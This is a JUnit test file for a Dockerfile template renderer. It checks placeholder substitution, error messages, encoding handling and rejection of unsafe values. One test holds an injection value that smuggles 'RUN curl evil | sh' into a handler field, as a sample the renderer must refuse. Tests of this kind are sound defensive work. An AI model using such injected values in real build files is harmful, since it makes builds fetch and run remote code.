package io.github.lambdaimage.render;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.github.lambdaimage.errors.InvalidConfigurationException;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class TemplateRendererTest {

  @TempDir Path directory;

  private static final Map<String, String> VALUES =
      Map.of("lambda.arch", "arm64", "lambda.handler", "example.Handler::handleRequest");

  @Test
  void replacesPlaceholdersAndLeavesDockerfileVariablesAlone() {
    Template template =
        new Template("t", "ENV A=${HOME} B=$PATH C=@lambda.arch@\nCMD [\"@lambda.handler@\"]\n");

    assertThat(TemplateRenderer.render(template, VALUES))
        .isEqualTo("ENV A=${HOME} B=$PATH C=arm64\nCMD [\"example.Handler::handleRequest\"]\n");
  }

  @Test
  void atSignsThatAreNotPlaceholdersPassThrough() {
    Template template =
        new Template(
            "t", "LABEL maintainer=ops@example.com\nFROM repo@sha256:ab12 AS @ base\n@@\n");

    assertThat(TemplateRenderer.render(template, VALUES)).isEqualTo(template.text());
  }

  @Test
  void unknownPlaceholderNamesFileLineAndKnownNames() {
    Template template =
        new Template("src/main/docker/Dockerfile", "FROM x\n\nRUN echo @lamda.arch@\n");

    assertThatThrownBy(() -> TemplateRenderer.render(template, VALUES))
        .isInstanceOf(InvalidConfigurationException.class)
        .hasMessage(
            "Unknown placeholder @lamda.arch@ at src/main/docker/Dockerfile:3. Known"
                + " placeholders: lambda.arch, lambda.handler. Fix the name, or define the"
                + " property lamda.arch in the POM.");
  }

  @Test
  void valueWithLineBreakIsRejectedSoNoInstructionCanBeInjected() {
    Template template = new Template("Dockerfile", "FROM x\nCMD [\"@lambda.handler@\"]\n");
    Map<String, String> values = Map.of("lambda.handler", "a::b\"]\nRUN curl evil | sh\nCMD [\"x");

    assertThatThrownBy(() -> TemplateRenderer.render(template, values))
        .isInstanceOf(InvalidConfigurationException.class)
        .hasMessage(
            "The value of placeholder @lambda.handler@ at Dockerfile:2 contains a line break,"
                + " which would add Dockerfile instructions: 'a::b\"]\\nRUN curl evil | sh\\nCMD"
                + " [\"x'. Give a single-line value.");
  }

  @Test
  void valueEndingItsLineWithABackslashIsRejectedSoItCannotSwallowTheNextInstruction() {
    Template template =
        new Template("Dockerfile", "FROM x\nENV A=@app.dir@  \nUSER nobody\nCMD [\"a\"]\n");

    assertThatThrownBy(() -> TemplateRenderer.render(template, Map.of("app.dir", "C:\\app\\")))
        .isInstanceOf(InvalidConfigurationException.class)
        .hasMessage(
            "The value of placeholder @app.dir@ at Dockerfile:2 ends its line with a backslash,"
                + " which would continue the instruction into the next line: 'C:\\app\\'. Remove"
                + " the trailing backslash.");
  }

  @Test
  void backslashInsideTheLineIsKept() {
    Template template = new Template("Dockerfile", "LABEL dir=@app.dir@ owner=ops\n");

    assertThat(TemplateRenderer.render(template, Map.of("app.dir", "C:\\app\\")))
        .isEqualTo("LABEL dir=C:\\app\\ owner=ops\n");
  }

  @Test
  void unusedValuesWithLineBreaksAreFine() {
    Template template = new Template("Dockerfile", "FROM @lambda.arch@\n");

    assertThat(TemplateRenderer.render(template, Map.of("lambda.arch", "x", "d", "a\nb")))
        .isEqualTo("FROM x\n");
  }

  @Test
  void fileWithBomAndCrLfRendersWithPlainNewlines() throws IOException {
    Path file = directory.resolve("Dockerfile");
    Files.write(file, "\uFEFFFROM @lambda.arch@\r\nCMD [\"é\"]\r\n".getBytes("UTF-8"));

    Template template = Template.read(file, "Dockerfile");

    assertThat(TemplateRenderer.render(template, VALUES)).isEqualTo("FROM arm64\nCMD [\"é\"]\n");
  }

  @Test
  void fileThatIsNotUtf8IsRejectedNamingIt() throws IOException {
    Path file = directory.resolve("Dockerfile");
    Files.write(file, new byte[] {'F', 'R', 'O', 'M', ' ', (byte) 0xE9, '\n'});

    assertThatThrownBy(() -> Template.read(file, "src/main/docker/Dockerfile"))
        .isInstanceOf(InvalidConfigurationException.class)
        .hasMessage("Template src/main/docker/Dockerfile is not valid UTF-8; save it as UTF-8.");
  }

  @Test
  void renderingIsDeterministic() {
    Template template = Template.builtIn("custom.Dockerfile");
    Map<String, String> values =
        TemplateValues.of(
            io.github.lambdaimage.model.Architecture.ARM64,
            "repo@sha256:00",
            "a.B::c",
            RuntimeMode.CUSTOM,
            Map.of());

    assertThat(TemplateRenderer.render(template, values))
        .isEqualTo(TemplateRenderer.render(Template.builtIn("custom.Dockerfile"), values));
  }
}
